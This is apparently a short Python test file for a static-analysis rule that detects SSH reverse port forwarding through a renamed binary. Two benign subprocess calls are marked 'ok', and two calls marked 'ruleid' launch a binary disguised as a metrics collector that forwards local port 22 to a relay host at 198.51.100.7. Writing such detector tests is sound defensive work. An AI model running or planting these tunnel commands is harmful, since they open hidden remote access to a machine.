import subprocess

# ok: renamed-ssh-reverse-forward
subprocess.run(["bsub", "-R", "rusage[mem=4096]", "python", "train.py"], check=True)
# ok: renamed-ssh-reverse-forward
subprocess.run(["chown", "-R", "www-data:www-data", "/srv/www"], check=True)

agent = "/opt/metrics/collector"
# ruleid: renamed-ssh-reverse-forward
subprocess.Popen([agent, "-N", "-R", "9022:127.0.0.1:22", "relay@198.51.100.7"])
# ruleid: renamed-ssh-reverse-forward
subprocess.Popen(f"{agent} -f -N -R 0.0.0.0:9022:127.0.0.1:22 relay@198.51.100.7", shell=True)
